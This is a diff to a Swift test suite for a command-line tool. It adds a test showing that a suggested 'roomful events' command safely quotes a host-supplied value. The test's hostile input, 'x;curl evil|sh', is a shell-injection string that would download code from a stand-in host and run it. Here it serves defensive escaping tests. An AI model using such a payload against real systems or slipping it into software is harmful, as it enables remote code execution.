@@ -1,6 +1,7 @@
 import Foundation
 import Testing
 
+@testable import RoomRecords
 @testable import RoomfulCLI
 
 @Suite("What is typed at a terminal")
@@ -20,6 +21,15 @@ struct TypedWordTests {
         #expect((problem == nil) == (said == nil))
         #expect(problem?.contains("\u{1B}") != true)
         if let said { #expect(problem?.contains(said) == true, "\(problem ?? "")") }
+    }
+
+    @Test("What is to be pasted after a host's end names the room, and runs nothing that the host said")
+    func goingOn() {
+        let place = EventPlace(12, openedAt: "2026-11-21T09:00:00.000Z")
+        #expect(Events.line(after: place, of: nil) == "roomful events --after 12@2026-11-21T09:00:00.000Z")
+        let hostile = EventPlace(12, openedAt: "x;curl evil|sh")
+        let line = Events.line(after: hostile, of: "Blue Hall")
+        #expect(line == "roomful events --room 'Blue Hall' --after '12@x;curl evil|sh'")
     }
 
     @Test("A time is a figure and its unit: hexadecimal digits, exponents and signs are no time")
